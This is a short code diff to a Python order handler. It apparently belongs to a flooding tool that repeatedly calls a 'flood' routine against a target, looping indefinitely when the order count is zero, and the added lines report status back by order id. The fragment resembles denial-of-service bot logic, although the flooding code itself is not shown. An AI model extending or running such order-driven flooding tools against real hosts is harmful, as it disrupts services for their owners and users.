@@ -42,6 +42,8 @@ def perform(order):
         count, errors = order["count"], set()
         while count > 0 or order["count"] == 0 and not select.select([sys.stdin], [], [], 0)[0]:
             errors.add(flood(flooding, to))
+            if count == 0:
+                tell("flooding", id=order["id"])
             count -= 1
         return ",".join(sorted(errors))
     elif op == "powers":
